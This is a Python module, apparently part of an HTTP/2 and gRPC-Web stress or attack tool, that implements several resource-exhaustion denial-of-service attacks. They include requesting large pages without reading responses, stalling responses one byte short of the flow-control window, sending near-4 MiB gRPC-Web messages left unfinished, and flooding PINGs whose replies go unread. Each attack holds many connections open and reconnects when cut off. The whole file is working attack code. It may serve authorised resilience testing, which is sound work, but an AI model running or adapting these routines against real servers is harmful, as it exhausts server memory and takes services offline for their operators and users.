"""Attacks on what is kept for a client: answers that it does not take, messages that it does not end, and what it is told
about both. As those of attacks.py."""
import itertools
import json
import time

from wire import (ACK, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW, PING, SETTINGS, WIDE, Gone, field, frame,
                  message, settings)

MIB = 1 << 20
PAGE = "/openapi.json"


def streams(count):
    return list(itertools.islice(itertools.count(1, 2), count))


def pages(wire, ids):
    """That many times the largest page, as it is without a packer."""
    head = b"".join(field(*pair) for pair in (
        (":method", "GET"), (":scheme", "https" if wire.target.ca else "http"), (":path", PAGE), (":authority", "nisi")))
    return b"".join(frame(HEADERS, head, END_HEADERS | END_STREAM, i) for i in ids)


def held(party, count, begin, then=lambda wire: None):
    """`count` connections that begin so and stay, each going on by `then`; those that are cut off come again."""
    live = []
    while party.more():
        while len(live) < count and party.more():
            wire = party.connect(hello=WIDE)
            if wire is None:
                break
            live.append(wire)
            try:
                begin(wire)
            except Gone:
                party.did["takes no more"] += 1
        for wire in list(live):
            try:
                then(wire)
            except Gone:
                party.did["cut"] += 1
                wire.close()
                live.remove(wire)
        time.sleep(0.05)
    for wire in live:
        wire.close()


def unread_pages(party):
    """The largest page is asked for and not read; when nothing is taken from us any more, ninety times again."""
    waits = {}

    def begin(wire):
        wire.send(frame(SETTINGS, b"", ACK) + pages(wire, streams(8)), reading=False, patience=0.2)
        waits[wire] = 10
        party.did["calls"] += 8

    def then(wire):
        waits[wire] -= 1
        if waits[wire] == 0:
            wire.send(pages(wire, streams(98)[8:]), reading=False, patience=0.05)
            party.did["calls"] += 90
        elif waits[wire] < 0:
            wire.send(frame(PING, bytes(8), ACK), reading=False, patience=0.05)
    held(party, 20, begin, then)


def last_bytes(party):
    """All of a page is taken but its last byte, on as many streams as there may be, some after others."""
    def one(wire):
        wire.send(frame(SETTINGS, b"", ACK))
        ids = streams(96)
        while True:
            if ids:
                wire.send(pages(wire, ids[:6]))
                party.did["calls"] += 6
                del ids[:6]
            for _ in range(10):
                yield
    page = party.facts["page_bytes"]
    party.crowd(4, one, hello=settings((INITIAL_WINDOW, page - 1)) + WIDE[-13:])


def messages_and_a_byte(party):
    """gRPC-Web: messages of nearly 4 MiB, and one byte of the next, so that each is under way and none is answered."""
    body = json.dumps({"name": "x" * 100}).encode() * 1000
    part = body[:16384]
    parts = 4 * MIB // len(part) - 1
    def one(wire):
        head = b"".join(field(*pair) for pair in (
            (":method", "POST"), (":scheme", "https" if wire.target.ca else "http"), (":path", party.target.path),
            (":authority", "nisi"), ("content-type", "application/grpc-web"), ("grpc-timeout", "30S"), wire.signed()))
        ids = streams(40)
        wire.send(frame(SETTINGS, b"", ACK))
        for i in ids:
            wire.send(frame(HEADERS, head, END_HEADERS, i) + frame(DATA, message(length=parts * len(part)), 0, i))
            party.did["calls"] += 1
            for _ in range(parts):
                wire.send(frame(DATA, part, 0, i))
                party.did["KiB"] += len(part) >> 10
                yield
            wire.send(frame(DATA, b"\0", 0, i))
        while True:
            yield
    party.crowd(6, one, pause=0)


def unread_acknowledgements(party):
    """Nothing is read while pings come one by one, each of which has an answer of its own to be kept."""
    def begin(wire):
        wire.send(frame(SETTINGS, b"", ACK) + pages(wire, streams(4)), reading=False, patience=0.2)
        party.did["calls"] += 4

    def then(wire):
        for _ in range(10):
            wire.send(frame(PING, bytes(8)), reading=False, patience=0.05)
            party.did["frames"] += 1
    held(party, 100, begin, then)
